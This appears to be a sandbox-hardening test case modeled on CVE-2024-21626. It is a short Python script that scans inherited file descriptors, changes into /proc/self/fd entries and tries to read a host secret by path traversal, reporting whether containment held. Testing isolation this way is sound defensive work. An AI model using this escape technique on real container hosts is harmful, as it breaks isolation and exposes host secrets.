# attempt: Reads a host file from a directory that the caller of the sandbox left open and inheritable, by openat and as
#     the working directory.
# known-from: CVE-2024-21626 (runc left a directory of the host open)
# held-by: launcher
# must: held
# needs: secret leak
# control: bare
import os

path = "../../../../../.." + os.environ["ESCAPE_SECRET"]
found = []
for fd in range(3, 1024):
    try:
        os.fstat(fd)
        found.append(fd)
        os.chdir(f"/proc/self/fd/{fd}")
        with open(path) as file:
            print(f"escaped: fd {fd}: {file.read()}")
            raise SystemExit
    except OSError:
        continue
print(f"held: fds beyond 2: {found}")
